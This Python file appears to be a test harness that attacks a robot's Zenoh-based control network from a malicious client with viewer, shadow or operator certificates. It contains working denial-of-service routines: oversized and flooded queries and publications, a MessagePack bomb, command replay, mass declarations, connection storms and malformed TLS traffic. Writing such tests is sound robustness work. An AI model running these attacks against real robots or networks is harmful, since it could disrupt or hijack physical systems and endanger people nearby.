"""Attacks on a robot by a malicious client: `python attacker.py ENDPOINT KEYS`.

Each line of standard input, a JSON list of kind, identity and seconds, starts one attack in its own process, forked so
that it joins at once. That process prints "ready PID" when it has joined, begins at the next line and prints "done"
after these seconds. "gone" follows when the process has ended. An attack connects only to ENDPOINT, on this host.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import signal
import socket
import ssl
import sys
import threading
import time
import traceback
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import zenoh
from navloom_live.transport.links import Link, settings

__all__ = ["KINDS", "Attack", "main"]

JOIN = 30.0
"""Longest time for an attack to join, s."""
PREFIX = "lab/r1"
MB = 2**20
READABLE = (
    "*/*/describe", "*/*/params/get", "*/*/parameters", "process/*/config", "mapper/*/map", "planner/*/path",
    "planner/*/failure", "reference/*/trajectory", "goal/*/drive", "goal/*/recovery", "goal/*/feedback",
    "goal/*/result", "gate/*/selection", "gate/*/status",
)  # fmt: skip
"""Keys that any client with a certificate may query."""
COMMANDS = ("gate/main/command", "controller/faulty_tracker/command", "avoider/faulty_vfh/command")
BOMB = b"\x91\x91" + b"\xdd\x00\x0f\xff\xff" + b"\x80" * 0xFFFFF
"""A list of a million empty maps in MessagePack."""


@dataclass
class Attack:
    """Means of an attack.

    Attributes:
        session: Session that joined with the identity's certificate.
        join: Opens another session.
        address: Address of the router.
        limit: End of the attack, monotonic clock, s.
        held: Objects that stay alive until the end.
    """

    session: Any
    join: Callable[[], Any]
    address: tuple[str, int]
    limit: float
    held: list[Any]

    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.limit

    def rounds(self, most: int = 1_000_000) -> Iterator[int]:
        """Numbers of rounds while there is time left."""
        return itertools.takewhile(lambda _: self.goes_on(), range(most))

    def ask(self, key: str, payload: bytes = b"", **more: Any) -> None:
        """Query a key, and ignore the replies."""
        with contextlib.suppress(zenoh.ZError):
            self.session.get(
                f"{PREFIX}/{key}", zenoh.handlers.Callback(lambda reply: None, indirect=False), payload=payload,
                target=zenoh.QueryTarget.ALL, consolidation=zenoh.ConsolidationMode.NONE, timeout=5.0,
                priority=zenoh.Priority.REAL_TIME, congestion_control=zenoh.CongestionControl.BLOCK, **more,
            )  # fmt: skip

    def put(self, key: str, payload: bytes) -> None:
        """Publish at the highest priority."""
        with contextlib.suppress(zenoh.ZError):
            self.session.put(
                f"{PREFIX}/{key}", payload, priority=zenoh.Priority.REAL_TIME,
                congestion_control=zenoh.CongestionControl.BLOCK,
            )  # fmt: skip


Run = Callable[[Attack], None]


# --- queries --------------------------------------------------------------------------------------------------------


def large(key: str, size: int, count: int, filled: bytes = b" ") -> Run:
    """Queries with a large payload."""

    def run(attack: Attack) -> None:
        payload = (filled * (size // len(filled) + 1))[:size]
        for _ in attack.rounds(count):
            attack.ask(key, payload)

    return run


def large_to_all(attack: Attack) -> None:
    """Queries of 20 MB to every key that may be queried."""
    payload = bytes(20 * MB)
    for number in attack.rounds(len(READABLE)):
        attack.ask(READABLE[number], payload)


def large_parameters(attack: Attack) -> None:
    """20 MB of selector parameters, which no filter of Zenoh counts."""
    for _ in attack.rounds(4):
        attack.ask(f"*/*/describe?a={'x' * (20 * MB)}")


def large_attachment(attack: Attack) -> None:
    """Queries with an attachment of 20 MB."""
    for _ in attack.rounds(4):
        attack.ask("*/*/describe", attachment=bytes(20 * MB))


def flood(*keys: str, payload: bytes = b"", sessions: int = 1) -> Run:
    """Queries as fast as possible."""

    def run(attack: Attack) -> None:
        attacks = [attack, *(Attack(attack.join(), attack.join, *_rest(attack)) for _ in range(sessions - 1))]
        attack.held += [one.session for one in attacks[1:]]
        for number in attack.rounds():
            attacks[number % len(attacks)].ask(keys[number % len(keys)], payload)

    return run


def _rest(attack: Attack) -> tuple[tuple[str, int], float, list[Any]]:
    return attack.address, attack.limit, attack.held


def paced(key: str, rate: float) -> Run:
    """Queries at a rate, 1/s."""

    def run(attack: Attack) -> None:
        began = time.monotonic()
        for number in attack.rounds():
            attack.ask(key)
            time.sleep(max(0.0, began + (number + 1) / rate - time.monotonic()))

    return run


def liveliness_questions(attack: Attack) -> None:
    """Query liveliness as fast as possible."""
    for _ in attack.rounds():
        with contextlib.suppress(zenoh.ZError):
            handler = zenoh.handlers.Callback(lambda reply: None, indirect=False)
            attack.session.liveliness().get(f"{PREFIX}/**", handler, timeout=5.0)


# --- messages -------------------------------------------------------------------------------------------------------


def puts(*keys: str, size: int = 100, most: int = 1_000_000) -> Run:
    """Publish as fast as possible."""

    def run(attack: Attack) -> None:
        payload = bytes(size)
        for number in attack.rounds(most):
            attack.put(keys[number % len(keys)], payload)

    return run


def bombs(*keys: str) -> Run:
    """Nested lists of empty maps in MessagePack, 1 MB each."""

    def run(attack: Attack) -> None:
        data = len(BOMB).to_bytes(4, "little") + BOMB
        for number in attack.rounds(40):
            attack.put(keys[number % len(keys)], data)

    return run


def deletes(attack: Attack) -> None:
    """Delete every key as fast as possible."""
    for _ in attack.rounds():
        with contextlib.suppress(zenoh.ZError):
            attack.session.delete(f"{PREFIX}/**", priority=zenoh.Priority.REAL_TIME)


def replay(attack: Attack) -> None:
    """Record commands for a second, then publish them again and again."""
    heard: list[tuple[str, bytes]] = []

    def take(sample: Any) -> None:
        if len(heard) < 1000:
            heard.append((str(sample.key_expr).removeprefix(f"{PREFIX}/"), sample.payload.to_bytes()))

    handler = zenoh.handlers.Callback(take, indirect=False)
    attack.held += [attack.session.declare_subscriber(f"{PREFIX}/{key}", handler) for key in COMMANDS]
    time.sleep(1.0)
    for number in attack.rounds():
        if heard:
            attack.put(*heard[number % len(heard)])


# --- declarations ---------------------------------------------------------------------------------------------------


def _forget(*_: Any) -> None:
    return None


def subscribers(form: str, count: int) -> Run:
    """Thousands of subscribers, each to another key."""

    def run(attack: Attack) -> None:
        for number in attack.rounds(count):
            handler = zenoh.handlers.Callback(_forget, indirect=False)
            attack.held.append(attack.session.declare_subscriber(f"{PREFIX}/{form.format(number)}", handler))

    return run


def churn(attack: Attack) -> None:
    """Subscribe to a command and undeclare again, as fast as possible."""
    for _ in attack.rounds():
        handler = zenoh.handlers.Callback(_forget, indirect=False)
        attack.session.declare_subscriber(f"{PREFIX}/gate/main/command", handler).undeclare()


def queryables(form: str, count: int) -> Run:
    """Thousands of queryables, at keys some of which the robot serves."""

    def run(attack: Attack) -> None:
        for number in attack.rounds(count):
            handler = zenoh.handlers.Callback(_forget, indirect=False)
            key = f"{PREFIX}/{form.format(number)}"
            attack.held.append(attack.session.declare_queryable(key, handler, complete=True))

    return run


def watchers(attack: Attack) -> None:
    """Thousands of liveliness subscribers, each of which receives every token there is."""
    for number in attack.rounds(5000):
        handler = zenoh.handlers.Callback(_forget, indirect=False)
        key = f"{PREFIX}/**" if number % 2 else f"{PREFIX}/*/*/alive/x{number}"
        attack.held.append(attack.session.liveliness().declare_subscriber(key, handler, history=True))


def tokens(form: str, count: int) -> Run:
    """Liveliness tokens of nodes that do not exist."""

    def run(attack: Attack) -> None:
        for number in attack.rounds(count):
            attack.held.append(attack.session.liveliness().declare_token(f"{PREFIX}/{form.format(number)}"))

    return run


def flapping(form: str) -> Run:
    """A liveliness token that appears and disappears as fast as possible, each time under another id."""

    def run(attack: Attack) -> None:
        for number in attack.rounds():
            attack.session.liveliness().declare_token(f"{PREFIX}/{form.format(number)}").undeclare()

    return run


def answers(key: str, size: int) -> Run:
    """Answer every query of a key with `size` bytes, and make nodes query it again and again."""

    def run(attack: Attack) -> None:
        payload = bytes(size)

        def answer(query: Any) -> None:
            with contextlib.suppress(zenoh.ZError):
                query.reply(f"{PREFIX}/{key}", payload)

        handler = zenoh.handlers.Callback(answer, indirect=False)
        attack.held.append(attack.session.declare_queryable(f"{PREFIX}/{key}", handler, complete=True))
        role_name = key.rsplit("/", 1)[0]
        for number in attack.rounds():  # a new token makes every node query again
            token = attack.session.liveliness().declare_token(f"{PREFIX}/{role_name}/alive/{number}")
            time.sleep(0.2)
            token.undeclare()

    return run


# --- connections ----------------------------------------------------------------------------------------------------


def storm(attack: Attack) -> None:
    """Join and leave as fast as possible."""
    for _ in attack.rounds():
        with contextlib.suppress(zenoh.ZError):
            attack.join().close()


def crowd(attack: Attack) -> None:
    """Join a hundred times, and keep the sessions open."""
    for _ in attack.rounds(100):
        with contextlib.suppress(zenoh.ZError):
            attack.held.append(attack.join())


def half_open(first: bytes, count: int) -> Run:
    """Connections that send little or nothing, and stay open."""

    def run(attack: Attack) -> None:
        for _ in attack.rounds(count):
            with contextlib.suppress(OSError):
                connection = socket.create_connection(attack.address, 2.0)
                connection.sendall(first)
                attack.held.append(connection)

    return run


def garbage(attack: Attack) -> None:
    """Random bytes to the TLS port, connection after connection."""
    for _ in attack.rounds():
        with contextlib.suppress(OSError), socket.create_connection(attack.address, 2.0) as connection:
            connection.sendall(os.urandom(65_536))


def without_certificate(attack: Attack) -> None:
    """TLS handshakes without a client certificate, as fast as possible."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for _ in attack.rounds():
        with contextlib.suppress(OSError), context.wrap_socket(socket.create_connection(attack.address, 2.0)) as way:
            way.sendall(b"\x00" * 4096)
            way.recv(1)


HELLO = bytes.fromhex("16030100f8010000f4030300") + bytes(40)
"""The beginning of a TLS handshake."""


# --- readers --------------------------------------------------------------------------------------------------------


def stopped_reader(attack: Attack) -> None:
    """Subscribe to everything, then be stopped by SIGSTOP."""
    handler = zenoh.handlers.Callback(_forget, indirect=False)
    attack.held.append(attack.session.declare_subscriber(f"{PREFIX}/**", handler))
    time.sleep(0.5)
    threading.Timer(0.1, lambda: None).start()
    os.kill(os.getpid(), signal.SIGSTOP)


def slow_reader(attack: Attack) -> None:
    """Subscribe to everything over a connection that delivers 20 kB/s, and query maps all the time."""
    end = f"127.0.0.1:{_slow_way(attack.address)}"
    given = json.loads(CONFIG["text"].replace(f"{attack.address[0]}:{attack.address[1]}", end))
    session = zenoh.open(zenoh.Config.from_json5(json.dumps(given)))
    handler = zenoh.handlers.Callback(_forget, indirect=False)
    attack.held += [session, session.declare_subscriber(f"{PREFIX}/**", handler)]
    slow = Attack(session, attack.join, *_rest(attack))
    for _ in attack.rounds():
        slow.ask("mapper/*/map")
        slow.ask("planner/*/path")
        time.sleep(0.02)


CONFIG: dict[str, str] = {}
"""The settings of the sessions, as JSON text."""


def _slow_way(address: tuple[str, int]) -> int:
    """Port of a proxy to an address that passes little data back."""
    listening = socket.create_server(("127.0.0.1", 0))
    listening.listen()

    def serve() -> None:
        while True:
            near = listening.accept()[0]
            far = socket.socket()
            far.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            far.connect(address)
            threading.Thread(target=_carry, args=(near, far, 65_536, 0.0), daemon=True).start()
            threading.Thread(target=_carry, args=(far, near, 1000, 0.05), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    return int(listening.getsockname()[1])


def _carry(source: socket.socket, sink: socket.socket, size: int, pause: float) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(size):
            sink.sendall(data)
            time.sleep(pause)


OWN = "avoider/shadow_vfh"
"""Role and instance of the shadow's certificate."""

KINDS: dict[str, tuple[str, Run]] = {
    "nothing": ("viewer", lambda attack: time.sleep(max(0.0, attack.limit - time.monotonic()))),
    "describe, 1 MB, 20 times": ("viewer", large("*/*/describe", MB, 20)),
    "describe, 20 MB, twice": ("viewer", large("*/*/describe", 20 * MB, 2)),
    "describe, 60 MB, twice": ("viewer", large("*/*/describe", 60 * MB, 2)),
    "describe, 100 MB, twice": ("viewer", large("*/*/describe", 100 * MB, 2)),
    "describe, 100,000 times [": ("viewer", large("*/*/describe", 100_000, 20, b"[")),
    "describe, MessagePack bomb": ("viewer", large("*/*/describe", len(BOMB), 10, BOMB)),
    "20 MB to all that may be asked": ("viewer", large_to_all),
    "describe, 20 MB of parameters, 4 times": ("viewer", large_parameters),
    "describe, 20 MB attached, 4 times": ("viewer", large_attachment),
    "memory, 1000 a second": ("viewer", paced("process/*/memory", 1000.0)),
    "describe, 1000 a second": ("viewer", paced("*/*/describe", 1000.0)),
    "describe, as fast as it goes": ("viewer", flood("*/*/describe")),
    "describe, from 4 sessions": ("viewer", flood("*/*/describe", sessions=4)),
    "config, as fast as it goes": ("viewer", flood("process/*/config")),
    "map and path, as fast as it goes": ("viewer", flood("mapper/*/map", "planner/*/path")),
    "all that may be asked, as fast as it goes": ("viewer", flood(*READABLE)),
    "stop and submit, not allowed": ("viewer", flood("gate/main/stop", "goal/main/submit", "**")),
    "who is alive, as fast as it goes": ("viewer", liveliness_questions),
    "put **, not allowed": ("viewer", puts("**", "*/*/command", *COMMANDS)),
    "put 60 MB, not allowed": ("viewer", puts(*COMMANDS, size=60 * MB, most=6)),
    "put 100 MB, not allowed": ("viewer", puts(*COMMANDS, size=100 * MB, most=4)),
    "delete **, not allowed": ("viewer", deletes),
    "commands replayed, not allowed": ("viewer", replay),
    "MessagePack bombs, not allowed": ("viewer", bombs(*COMMANDS)),
    "20,000 subscribers": ("viewer", subscribers("x/{}/y", 20_000)),
    "20,000 subscribers to commands": ("viewer", subscribers("gate/main/command/**/a{}/**", 20_000)),
    "20,000 subscribers that match commands": ("viewer", subscribers("**/command/**/$*{}$*/**", 20_000)),
    "subscribes and leaves": ("viewer", churn),
    "5000 queryables, not allowed": ("viewer", queryables("gate/main/x{}", 5000)),
    "5000 who watch who is alive": ("viewer", watchers),
    "5000 tokens, not allowed": ("viewer", tokens("gate/main/alive/{}", 5000)),
    "joins and leaves": ("viewer", storm),
    "100 sessions": ("viewer", crowd),
    "300 silent connections": ("viewer", half_open(b"", 300)),
    "300 half handshakes": ("viewer", half_open(HELLO, 300)),
    "garbage to the TLS port": ("viewer", garbage),
    "handshakes without a certificate": ("viewer", without_certificate),
    "a reader that is stopped": ("viewer", stopped_reader),
    "a slow reader": ("viewer", slow_reader),
    "shadow: its command, as fast as it goes": ("shadow", puts(f"{OWN}/command")),
    "shadow: its command, 60 MB": ("shadow", puts(f"{OWN}/command", size=60 * MB, most=6)),
    "shadow: its command, MessagePack bombs": ("shadow", bombs(f"{OWN}/command")),
    "shadow: all its streams, 1 MB": ("shadow", puts(
        f"{OWN}/command", f"{OWN}/status", f"{OWN}/handover", f"{OWN}/step", f"{OWN}/parameters", size=MB)),
    "shadow: its step reports, bombs": ("shadow", bombs(f"{OWN}/step", f"{OWN}/parameters", f"{OWN}/handover")),
    "shadow: comes and goes": ("shadow", flapping(f"{OWN}/alive/{{}}")),
    "shadow: 5000 lives": ("shadow", tokens(f"{OWN}/alive/{{}}", 5000)),
    "shadow: tokens of others, not allowed": ("shadow", tokens("gate/main/alive/{}", 5000)),
    "shadow: parameters of 60 MB": ("shadow", answers(f"{OWN}/parameters", 60 * MB)),
    "shadow: commands replayed, not allowed": ("shadow", replay),
    "shadow: memory, as fast as it goes": ("shadow", flood("process/*/memory")),
    "shadow: 20,000 queryables of its own": ("shadow", queryables(f"{OWN}/x{{}}", 20_000)),
    "operator: stop, deep JSON": ("operator", large("gate/main/stop", 60_000, 20, b"[")),
    "operator: submit, 60 MB": ("operator", large("goal/main/submit", 60 * MB, 2)),
    "operator: params/get, as fast as it goes": ("operator", flood("gate/main/params/get", "*/*/params/get")),
    "operator: resume, as fast as it goes": ("operator", flood("gate/main/resume", payload=b"{}")),
    "operator: broken goals, as fast as it goes": ("operator", flood("goal/main/submit", payload=b'{"x": "a"}')),
    "operator: its commands, garbage": ("operator", puts("operator/main/command")),
    "operator: its commands, bombs": ("operator", bombs("operator/main/command")),
}  # fmt: skip
"""Kind of abuse -> identity of the certificate, and the attack."""


def main(arguments: Sequence[str]) -> None:
    """Run one attack after the other until the end of standard input."""
    end, keys = arguments
    for line in iter(sys.stdin.readline, ""):
        kind, identity, seconds = json.loads(line)
        pid = os.fork()  # Zenoh has no thread before its first session, and this process never opens one
        if pid == 0:
            try:
                attack(kind, end, Path(keys), identity, seconds)
            except Exception:
                traceback.print_exc()
            finally:
                os._exit(0)  # no orderly close: thousands of declarations would take long
        os.waitpid(pid, 0)
        print("gone", flush=True)


def attack(kind: str, end: str, keys: Path, identity: str, seconds: float) -> None:
    """Run one attack, from joining to its end."""
    CONFIG["text"] = json.dumps(settings(Link("client", (), (end,), keys, identity)))
    host, _, port = end.partition("/")[2].rpartition(":")

    def join() -> Any:
        return zenoh.open(zenoh.Config.from_json5(CONFIG["text"]))

    session, limit = None, time.monotonic() + JOIN
    while session is None:
        try:
            session = join()
        except zenoh.ZError:  # silent connections of the previous attack may still use the router's limit
            if time.monotonic() > limit:
                raise
    print(f"ready {os.getpid()}", flush=True)
    sys.stdin.readline()
    given = Attack(session, join, (host, int(port)), time.monotonic() + seconds, [])
    KINDS[kind][1](given)
    time.sleep(max(0.0, given.limit - time.monotonic()))  # what it holds stays held until the end
    print("done", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
